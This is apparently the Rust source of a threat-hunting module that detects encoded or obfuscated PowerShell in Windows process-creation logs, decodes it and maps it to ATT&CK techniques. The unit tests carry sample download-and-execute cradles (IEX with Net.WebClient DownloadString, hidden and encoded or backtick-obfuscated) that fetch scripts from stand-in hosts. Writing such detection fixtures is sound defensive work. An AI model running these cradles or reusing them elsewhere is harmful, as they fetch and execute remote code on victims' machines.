//! Hunt module `encoded-powershell`: PowerShell started with an encoded
//! command (`-EncodedCommand` in any spelling) or an obfuscated one, with the
//! command decoded in the evidence (ATT&CK T1059.001, T1027, T1027.010,
//! T1105, T1562.001).
//!
//! Reads process creations: Sysmon EventID 1 (`Image`, `CommandLine`,
//! `ParentImage`, `User`) and Security 4688 (`NewProcessName`,
//! `CommandLine`, `ParentProcessName`, `SubjectUserName`), or any event with
//! a `CommandLine`. Prefilter: `CommandLine` contains `powershell` or `pwsh`.
//!
//! Finding `encoded-powershell/encoded-command` for a decodable encoded
//! command, `encoded-powershell/obfuscated-command` for a command line whose
//! marker score reaches `min_score`. One finding per (host, command line)
//! per task; repeats are counted in the aggregate
//! `suspicious_powershell_by_host`. See [`analysis`] for the logic.

#![warn(missing_docs)]

pub mod analysis;

use std::collections::BTreeSet;

use analysis::{Analysis, Decoded, MAX_DECODED_CHARS, Marker, analyze, truncate};
use quarry_sdk::{
    Counts, Descriptor, Emitter, Event, Field, Finding, Hunt, Output, Params, Predicate, Severity,
};

/// The module's name in the registry.
pub const NAME: &str = "encoded-powershell";
/// The module's version (the crate version).
pub const VERSION: &str = env!("CARGO_PKG_VERSION");

/// Rule id: an encoded command that decodes.
pub const RULE_ENCODED: &str = "encoded-powershell/encoded-command";
/// Rule id: obfuscation markers without an encoded command.
pub const RULE_OBFUSCATED: &str = "encoded-powershell/obfuscated-command";
/// Name of the aggregate counting suspicious command lines per host.
pub const AGGREGATE_BY_HOST: &str = "suspicious_powershell_by_host";

/// ATT&CK: PowerShell.
pub const T_POWERSHELL: &str = "T1059.001";
/// ATT&CK: Obfuscated Files or Information.
pub const T_OBFUSCATION: &str = "T1027";
/// ATT&CK: Command Obfuscation.
pub const T_COMMAND_OBFUSCATION: &str = "T1027.010";
/// ATT&CK: Ingress Tool Transfer (download cradles).
pub const T_INGRESS: &str = "T1105";
/// ATT&CK: Disable or Modify Tools (AMSI bypass).
pub const T_IMPAIR_DEFENSES: &str = "T1562.001";
/// Every technique a finding may carry.
pub const TECHNIQUES: [&str; 5] = [
    T_POWERSHELL,
    T_OBFUSCATION,
    T_COMMAND_OBFUSCATION,
    T_INGRESS,
    T_IMPAIR_DEFENSES,
];

/// Parameter: smallest score for an obfuscated command without encoding.
pub const PARAM_MIN_SCORE: &str = "min_score";
/// Default of [`PARAM_MIN_SCORE`].
pub const DEFAULT_MIN_SCORE: u64 = 40;

/// Longest command line kept in evidence (characters).
const MAX_COMMAND_LINE_CHARS: usize = 2_000;
/// Most (host, command line) pairs remembered for deduplication.
const MAX_SEEN: usize = 100_000;

quarry_sdk::fields! {
    /// The event fields this module reads.
    pub mod field {
        /// The full command line.
        COMMAND_LINE = "CommandLine",
        /// Sysmon: the process image.
        IMAGE = "Image",
        /// 4688: the process image.
        NEW_PROCESS_NAME = "NewProcessName",
        /// Sysmon: the parent image.
        PARENT_IMAGE = "ParentImage",
        /// 4688: the parent image.
        PARENT_PROCESS_NAME = "ParentProcessName",
        /// Sysmon: the account.
        USER = "User",
        /// 4688: the account.
        SUBJECT_USER_NAME = "SubjectUserName",
        /// 4688: the account's domain.
        SUBJECT_DOMAIN_NAME = "SubjectDomainName",
        /// The canonical host of the event.
        HOST = "host",
        /// The machine that logged the event, as evtx names it.
        COMPUTER = "Computer",
        /// Windows event id (1 or 4688), for evidence.
        EVENT_ID = "EventID",
    }
}

/// The module.
#[derive(Debug)]
pub struct EncodedPowershell {
    min_score: u32,
    seen: BTreeSet<(String, String)>,
    by_host: Counts,
}

impl EncodedPowershell {
    /// The smallest score for the hunt's parameters.
    pub fn min_score(params: &Params) -> Result<u32, String> {
        params.ensure_known(&[PARAM_MIN_SCORE])?;
        let score = params.u64_in_range_or(PARAM_MIN_SCORE, DEFAULT_MIN_SCORE, 1..=100)?;
        Ok(score as u32)
    }
}

fn meaningful(event: &Event, field: Field) -> Option<&str> {
    event.get_nonempty(field).filter(|&v| v != "-")
}

fn is_powershell_image(image: &str) -> bool {
    let lower = image.to_ascii_lowercase();
    let file = lower.rsplit(['\\', '/']).next().unwrap_or(&lower);
    matches!(
        file,
        "powershell.exe" | "pwsh.exe" | "powershell_ise.exe" | "pwsh" | "powershell"
    )
}

/// The finding for an analysed command line, or `None` when it is not
/// suspicious enough.
pub fn finding(event: &Event, analysis: &Analysis, min_score: u32) -> Option<Finding> {
    let command_line = event.get(field::COMMAND_LINE)?;
    let score = analysis.score();
    let decoded_text = analysis
        .encoded
        .as_ref()
        .and_then(|e| e.decoded.text())
        .map(str::trim);
    let encoded = analysis.has(Marker::EncodedCommand);
    if !encoded && score < min_score {
        return None;
    }
    let host = meaningful(event, field::HOST)
        .or_else(|| meaningful(event, field::COMPUTER))
        .unwrap_or("unknown");
    let user = meaningful(event, field::USER)
        .map(str::to_owned)
        .or_else(|| {
            let name = meaningful(event, field::SUBJECT_USER_NAME)?;
            Some(match meaningful(event, field::SUBJECT_DOMAIN_NAME) {
                Some(domain) => format!("{domain}\\{name}"),
                None => name.to_owned(),
            })
        });
    let image =
        meaningful(event, field::IMAGE).or_else(|| meaningful(event, field::NEW_PROCESS_NAME));
    let parent = meaningful(event, field::PARENT_IMAGE)
        .or_else(|| meaningful(event, field::PARENT_PROCESS_NAME));

    let dangerous = [
        Marker::Download,
        Marker::InvokeExpression,
        Marker::AmsiBypass,
        Marker::Compression,
        Marker::FromBase64String,
    ];
    let has_dangerous = dangerous.iter().any(|&m| analysis.has(m));
    let severity = match (encoded, has_dangerous, score) {
        (true, true, _) => Severity::High,
        (true, false, _) => Severity::Medium,
        (false, _, s) if s >= 60 => Severity::High,
        _ => Severity::Medium,
    };
    let mut techniques = vec![T_POWERSHELL];
    if encoded || analysis.markers.iter().any(|m| m.is_obfuscation()) {
        techniques.push(T_OBFUSCATION);
    }
    if analysis.markers.iter().any(|m| m.is_obfuscation()) {
        techniques.push(T_COMMAND_OBFUSCATION);
    }
    if analysis.has(Marker::Download) {
        techniques.push(T_INGRESS);
    }
    if analysis.has(Marker::AmsiBypass) {
        techniques.push(T_IMPAIR_DEFENSES);
    }
    let (rule, title) = if encoded {
        let preview = decoded_text.map_or_else(
            || "(not text)".to_owned(),
            |t| truncate(&t.split_whitespace().collect::<Vec<_>>().join(" "), 80),
        );
        (
            RULE_ENCODED,
            format!("Encoded PowerShell on {host}: {preview}"),
        )
    } else {
        (
            RULE_OBFUSCATED,
            format!("Obfuscated PowerShell on {host} (score {score})"),
        )
    };
    let markers: Vec<&str> = analysis.markers.iter().map(|m| m.name()).collect();
    let mut builder = Finding::builder(rule, title)
        .severity(severity)
        .confidence(score.clamp(30, 95) as u8)
        .entity(format!("host:{host}"))
        .timestamp_ms(event.timestamp_ms)
        .evidence("host", host);
    if let Some(user) = &user {
        builder = builder.evidence("user", user);
    }
    if let Some(image) = image {
        builder = builder.evidence("image", image);
    }
    if let Some(parent) = parent {
        builder = builder.evidence("parent_image", parent);
    }
    builder = builder.evidence(
        "command_line",
        truncate(command_line, MAX_COMMAND_LINE_CHARS),
    );
    if let Some(e) = &analysis.encoded {
        builder = builder
            .evidence("encoded_switch", &e.switch)
            .evidence("decoded_encoding", e.decoded.describe());
        if let Some(text) = decoded_text {
            builder = builder.evidence("decoded_command", truncate(text, MAX_DECODED_CHARS));
        }
    }
    for (i, inner) in analysis.inner.iter().enumerate() {
        let value = match inner {
            Decoded::Utf16(text) | Decoded::Utf8(text) => truncate(text, MAX_DECODED_CHARS),
            other => other.describe(),
        };
        builder = builder.evidence(format!("inner_decoded_{}", i + 1), value);
    }
    Some(
        builder
            .evidence("markers", markers.join(", "))
            .evidence("score", score)
            .techniques(techniques)
            .offset(event.offset)
            .build(),
    )
}

impl Hunt for EncodedPowershell {
    fn describe() -> Descriptor {
        Descriptor::new(NAME, VERSION)
            .with_description(
                "PowerShell started with an encoded (-EncodedCommand in any spelling) or obfuscated command line; the command is decoded in the evidence.",
            )
            .with_fields(field::NAMES)
            .with_predicate(Predicate::contains("CommandLine", &["powershell", "pwsh"]))
            .with_techniques(&TECHNIQUES)
    }

    fn new(params: &Params) -> Result<Self, String> {
        Ok(EncodedPowershell {
            min_score: Self::min_score(params)?,
            seen: BTreeSet::new(),
            by_host: Counts::new(AGGREGATE_BY_HOST),
        })
    }

    fn scan(&mut self, batch: &[Event], out: &mut Emitter) -> Result<(), String> {
        for event in batch {
            let Some(command_line) = event.get_nonempty(field::COMMAND_LINE) else {
                continue;
            };
            let image = event
                .first_of(&[field::IMAGE, field::NEW_PROCESS_NAME])
                .is_some_and(is_powershell_image);
            let analysis = analyze(command_line, image);
            let Some(finding) = finding(event, &analysis, self.min_score) else {
                continue;
            };
            let host = finding.entity.trim_start_matches("host:").to_owned();
            self.by_host.increment(&host);
            let key = (host, command_line.to_owned());
            if self.seen.contains(&key) {
                continue;
            }
            if self.seen.len() < MAX_SEEN {
                self.seen.insert(key);
            }
            out.emit(finding);
        }
        Ok(())
    }

    fn finish(self, out: &mut Output) {
        quarry_sdk::log::debug(&format!(
            "{} suspicious PowerShell command lines on {} hosts, {} distinct",
            self.by_host.total(),
            self.by_host.len(),
            self.seen.len()
        ));
        out.aggregate(self.by_host);
    }
}

quarry_sdk::export_hunt!(EncodedPowershell);

#[cfg(test)]
mod tests {
    use super::*;
    use analysis::encode_command;
    use quarry_sdk::Task;

    fn event(offset: u64, values: &[(Field, &str)]) -> Event {
        Event::with_values(
            1_700_000_000_000 + offset as i64,
            offset,
            field::NAMES,
            values,
        )
    }

    #[test]
    fn descriptor_declares_fields_prefilter_and_techniques() {
        let d = Task::<EncodedPowershell>::describe();
        assert_eq!(d.name, NAME);
        assert_eq!(d.fields[0], "CommandLine");
        assert_eq!(d.prefilter.len(), 1);
        assert_eq!(d.prefilter[0].values, ["powershell", "pwsh"]);
        assert!(d.techniques.contains(&"T1059.001".to_owned()));
    }

    #[test]
    fn parameters() {
        assert_eq!(EncodedPowershell::min_score(&Params::default()), Ok(40));
        let mut task = Task::<EncodedPowershell>::new();
        assert_eq!(
            task.init(vec![("min_score".into(), "0".into())])
                .unwrap_err(),
            "parameter `min_score` must be an integer from 1 to 100, got `0`"
        );
        assert!(
            task.init(vec![("threshold".into(), "1".into())])
                .unwrap_err()
                .starts_with("unknown parameter")
        );
    }

    #[test]
    fn task_decodes_dedupes_and_counts() {
        let mut task = Task::<EncodedPowershell>::new();
        task.init(vec![]).unwrap();
        let payload = encode_command(
            "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')",
        );
        let line = format!("powershell.exe -nop -w hidden -enc {payload}");
        let malicious = |offset| {
            event(
                offset,
                &[
                    (field::COMMAND_LINE, &line),
                    (
                        field::NEW_PROCESS_NAME,
                        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    ),
                    (
                        field::PARENT_PROCESS_NAME,
                        "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
                    ),
                    (field::SUBJECT_USER_NAME, "alice"),
                    (field::SUBJECT_DOMAIN_NAME, "CORP"),
                    (field::COMPUTER, "WS07.corp.example"),
                    (field::EVENT_ID, "4688"),
                ],
            )
        };
        let benign = event(
            3,
            &[
                (
                    field::COMMAND_LINE,
                    "powershell.exe -NoProfile -File C:\\scripts\\inventory.ps1",
                ),
                (field::HOST, "WS07"),
            ],
        );
        let findings = task.scan(vec![malicious(1), benign, malicious(2)]).unwrap();
        assert_eq!(findings.len(), 1, "{findings:#?}");
        let f = &findings[0];
        assert_eq!(f.rule, RULE_ENCODED);
        assert_eq!(f.severity, Severity::High);
        assert_eq!(f.entity, "host:WS07.corp.example");
        assert_eq!(f.evidence_value("user"), Some("CORP\\alice"));
        assert_eq!(f.evidence_value("encoded_switch"), Some("-enc"));
        assert_eq!(f.evidence_value("decoded_encoding"), Some("utf-16le"));
        assert!(
            f.evidence_value("decoded_command")
                .unwrap()
                .starts_with("IEX (New-Object Net.WebClient)")
        );
        assert_eq!(
            f.evidence_value("markers"),
            Some("encoded-command, invoke-expression, download, hidden-window, no-profile")
        );
        assert_eq!(f.techniques, ["T1027", "T1059.001", "T1105"]);
        assert!(
            f.title
                .starts_with("Encoded PowerShell on WS07.corp.example: IEX (New-Object"),
            "{}",
            f.title
        );
        let output = task.finish().unwrap();
        assert_eq!(
            output.aggregates[0].counts(),
            [("WS07.corp.example".to_owned(), 2)]
        );
    }

    #[test]
    fn obfuscated_without_encoding_respects_min_score() {
        let line =
            "powershell -c \"I`E`X ((New-Object Net.WebClient).DownloadString('http://x/a'))\"";
        let e = event(1, &[(field::COMMAND_LINE, line), (field::HOST, "ws1")]);
        let a = analyze(line, false);
        let f = finding(&e, &a, 40).unwrap();
        assert_eq!(f.rule, RULE_OBFUSCATED);
        assert_eq!(f.techniques, ["T1027", "T1027.010", "T1059.001", "T1105"]);
        assert!(finding(&e, &a, 60).is_none());
    }
}
